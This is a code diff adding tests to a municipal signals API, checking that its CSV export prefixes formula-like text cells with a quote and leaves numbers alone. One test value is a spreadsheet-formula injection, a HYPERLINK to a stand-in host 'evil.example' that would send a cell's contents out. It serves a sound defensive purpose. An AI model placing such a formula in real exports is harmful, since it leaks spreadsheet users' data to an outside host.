@@ -428,6 +428,34 @@ async def test_summary_formats(client, staff, db):
     assert geo["features"][0]["properties"]["area_code"] == "WK999901"
 
 
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', "+31 6 1234", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"],
+)
+async def test_summary_csv_cannot_start_a_spreadsheet_formula(client, staff, db, name):
+    await seed(db)
+    # an area name as an imported map may carry it
+    await db.execute("UPDATE areas SET name = $1 WHERE code = 'WK999901'", name)
+    headers = {**(await staff("analyst", "GM9999")), "Accept": "text/csv"}
+    url = "/api/v1/signals/summary?municipality=GM9999&level=wijk&period=2025-Q1&group=sociale_overlast"
+    resp = await client.get(url, headers=headers)
+    assert resp.status == 200
+    table = list(csv.DictReader(io.StringIO(await resp.text(), newline="")))
+    row = next(r for r in table if r["area_code"] == "WK999901")
+    assert row["area_name"] == "'" + name
+    for r in table:  # numbers stay numbers, negative ones included
+        for column in ("count", "previous_count", "change", "change_pct", "share"):
+            assert not r[column].startswith("'"), (column, r[column])
+
+
+def test_csv_writer_escapes_text_not_numbers():
+    from burgerwacht import csvsafe
+
+    out = io.StringIO()
+    csvsafe.writer(out, lineterminator="\n").writerow(["=1+1", -3, -2.5, "-", "Binnenstad", "a=b", None])
+    assert out.getvalue() == "'=1+1,-3,-2.5,'-,Binnenstad,a=b,\n"
+
+
 async def test_trend_points_are_the_monthly_summary_rows(client, staff, db):
     """One request for an area's months (the console's trend made twelve): each point
     is exactly what the summary of that month publishes for the area, suppression
